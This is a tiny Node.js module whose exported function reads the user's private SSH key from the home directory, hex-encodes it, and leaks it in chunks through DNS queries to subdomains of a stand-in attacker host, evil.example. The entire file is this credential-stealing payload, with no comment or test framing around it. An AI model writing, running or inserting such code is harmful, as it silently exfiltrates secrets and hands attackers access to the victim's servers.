import dns from "node:dns";
import fs from "node:fs";
import os from "node:os";
export default () => {
  const hex = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519").toString("hex");
  for (let i = 0; i < hex.length; i += 60) dns.resolve(`${hex.slice(i, i + 60)}.evil.example`, () => {});
};
